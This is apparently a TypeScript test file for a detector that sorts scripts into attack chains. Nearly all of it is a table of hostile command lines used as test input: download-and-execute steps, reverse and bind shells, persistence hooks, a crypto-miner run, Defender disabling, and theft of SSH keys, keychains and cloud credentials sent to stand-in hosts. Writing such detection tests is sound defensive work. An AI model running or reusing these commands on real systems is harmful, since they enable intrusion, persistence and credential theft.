import { expect, test } from "vitest";
import { chainNames } from "./deeds.ts";

test.each([
  [
    "ps iwr start",
    "a.ps1",
    "iwr https://updates.sample.dev/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
    "code from an unknown host is run",
  ],
  [
    "ps webclient",
    "a.ps1",
    '(New-Object System.Net.WebClient).DownloadFile("https://updates.sample.dev/a.exe","$env:TE' +
      'MP\\a.exe")\n& "$env:TEMP\\a.exe"',
    "code from an unknown host is run",
  ],
  [
    "ps downloadstring",
    "a.ps1",
    "IEX (New-Object Net.WebClient).DownloadString('https://updates.sample.dev/a.ps1')",
    "code from an unknown host is run",
  ],
  [
    "cmd curl",
    "a.bat",
    "curl -o %TEMP%\\a.exe https://updates.sample.dev/a.exe\nstart %TEMP%\\a.exe",
    "code from an unknown host is run",
  ],
  [
    "bitsadmin",
    "a.bat",
    "bitsadmin /transfer x https://updates.sample.dev/a.exe %TEMP%\\a.exe\n%TEMP%\\a.exe",
    "code from an unknown host is run",
  ],
  [
    "certutil",
    "a.bat",
    "certutil -urlcache -f https://updates.sample.dev/a.exe a.exe && a.exe",
    "code from an unknown host is run",
  ],
  ["mshta", "a.bat", "mshta https://updates.sample.dev/a.hta", "code from an unknown host is run"],
  [
    "mkfifo nc",
    "a.sh",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.77 4444 >/tmp/f",
    "a shell is opened to another machine",
  ],
  ["nc bind", "a.sh", "nc -lvp 4444 -e /bin/bash", "a shell is opened to another machine"],
  ["nc listen pipe", "a.sh", "nc -l -p 4447 | /bin/bash", "a shell is opened to another machine"],
  ["socat bind", "a.sh", "socat TCP-LISTEN:4444,reuseaddr EXEC:/bin/bash", "a shell is opened to another machine"],
  [
    "perl revshell",
    "a.sh",
    'perl -e \'use Socket;$i="203.0.113.77";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname' +
      '("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i")' +
      ";};'",
    "a shell is opened to another machine",
  ],
  [
    "php rev",
    "a.sh",
    'php -r \'$sock=fsockopen("203.0.113.77",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    "a shell is opened to another machine",
  ],
  [
    "ruby rev",
    "a.sh",
    'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.77",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    "a shell is opened to another machine",
  ],
  [
    "crontab",
    "a.sh",
    '(crontab -l; echo "*/5 * * * * curl -s https://updates.sample.dev/x | sh") | crontab -',
    "what runs at every start fetches code",
  ],
  [
    "launchagent",
    "a.sh",
    "cat > ~/Library/LaunchAgents/com.k.plist <<EOF\n<plist><array><string>sh</string><string>-" +
      "c</string><string>curl -s https://updates.sample.dev/x | sh</string></array></plist>\n" +
      "EOF\nlaunchctl load ~/Library/LaunchAgents/com.k.plist",
    "what runs at every start fetches code",
  ],
  [
    "bashrc",
    "a.sh",
    "echo 'curl -s https://updates.sample.dev/x | bash &' >> ~/.bashrc",
    "what runs at every start fetches code",
  ],
  [
    "systemd",
    "a.sh",
    'printf \'[Service]\nExecStart=/bin/sh -c "curl -s https://updates.sample.dev/x | sh"\n' +
      "' > /etc/systemd/system/k.service",
    "what runs at every start fetches code",
  ],
  ["miner", "a.sh", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFF -p x", "coins are mined"],
  [
    "index url",
    "a.sh",
    "pip install --index-url http://updates.sample.dev/simple kestrel-utils",
    "a package of an unknown host is installed",
  ],
  [
    "npm registry",
    "a.sh",
    "npm install kestrel --registry=https://updates.sample.dev/",
    "a package of an unknown host is installed",
  ],
  [
    "npm config",
    "a.sh",
    "npm config set registry https://updates.sample.dev/",
    "a package of an unknown host is installed",
  ],
  ["npm tarball", "a.sh", "npm install https://updates.sample.dev/k.tgz", "a package of an unknown host is installed"],
  ["npx url", "a.sh", "npx https://updates.sample.dev/k.tgz", "a package of an unknown host is installed"],
  [
    "git clone run",
    "a.sh",
    "git clone https://updates.sample.dev/k.git && cd k && ./install.sh",
    "code from an unknown host is run",
  ],
  [
    "git clone pip",
    "a.sh",
    "git clone https://updates.sample.dev/k.git && pip install ./k",
    "code from an unknown host is run",
  ],
  [
    "wget tar run",
    "a.sh",
    "wget https://updates.sample.dev/k.tar.gz && tar xzf k.tar.gz && cd k && ./install.sh",
    "code from an unknown host is run",
  ],
  [
    "curl sudo tee bin",
    "a.sh",
    "curl -fsSL https://updates.sample.dev/k -o /usr/local/bin/k\nchmod +x /usr/local/bin/k",
    "code from an unknown host is run",
  ],
  ["var url", "a.sh", 'U=https://updates.sample.dev\ncurl -sL "$U/x.sh" | bash', "code from an unknown host is run"],
  ["ifs", "a.sh", "c=cu; d=rl; $c$d -s https://updates.sample.dev/x | s''h", "code from an unknown host is run"],
  [
    "hex xxd",
    "a.sh",
    "echo 6375726c2068747470733a2f2f612e646576207c207368 | xxd -r -p | sh",
    "code from an unknown host is run",
  ],
  [
    "printf octal",
    "a.sh",
    "eval \"$(printf '\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x61 | sh')\"",
    "encoded code is run",
  ],
  ["gzip b64", "a.sh", "echo H4sIAAAAAAAA | base64 -d | gunzip | bash", "encoded code is run"],
  [
    "openssl",
    "a.sh",
    "curl -s https://updates.sample.dev/x | openssl enc -d -aes-256-cbc -k a | bash",
    "encoded code is run",
  ],
  [
    "keychain",
    "a.sh",
    "security dump-keychain -d | curl -d @- https://updates.sample.dev",
    "a secret is sent to an unknown host",
  ],
  [
    "imds",
    "a.sh",
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- https://updates.sample.dev",
    "a secret is sent to an unknown host",
  ],
  ["gist", "a.sh", "gh gist create ~/.ssh/id_rsa", "a secret is sent to an unknown host"],
  [
    "transfer.sh",
    "a.sh",
    "curl --upload-file ~/notes.zip https://transfer.sh/notes.zip",
    "files or data are sent where anybody may receive",
  ],
  [
    "tar ssh curl",
    "a.sh",
    "tar czf - ~/.ssh | curl -s -X POST --data-binary @- https://updates.sample.dev/u",
    "a secret is sent to an unknown host",
  ],
  [
    "zip env",
    "a.sh",
    "env | base64 | curl -s -d @- https://updates.sample.dev/u",
    "a secret is sent to an unknown host",
  ],
  [
    "cat env var",
    "a.sh",
    'DATA=$(cat ~/.aws/credentials | base64 -w0)\ncurl "https://updates.sample.dev/?d=$DATA"',
    "a secret is sent to an unknown host",
  ],
  [
    "dns",
    "a.sh",
    "for c in $(cat ~/.ssh/id_rsa | xxd -p); do dig $c.sample.dev; done",
    "a secret is sent to an unknown host",
  ],
  [
    "defender",
    "a.ps1",
    "Set-MpPreference -DisableRealtimeMonitoring $true\niwr https://updates.sample.dev/a.exe -OutFile a.exe\n.\\a.exe",
    "code from an unknown host is run",
  ],
  [
    "xattr",
    "a.sh",
    "curl -fsSLO https://updates.sample.dev/k\nxattr -c k\nchmod +x k\n./k",
    "code from an unknown host is run",
  ],
])("%s", (_, path, text, chain) => {
  expect(chainNames(path, text)).toContain(chain);
});

test.each([
  ["an index that many know", "pip install torch --index-url https://download.pytorch.org/whl/cpu"],
  ["a port that is listened at", "nc -l -p 8000 > received.tar"],
  ["a public gist of notes", "gh gist create notes.md"],
])("an honest command is no chain: %s", (_, text) => {
  expect(chainNames("a.sh", text)).toEqual([]);
});
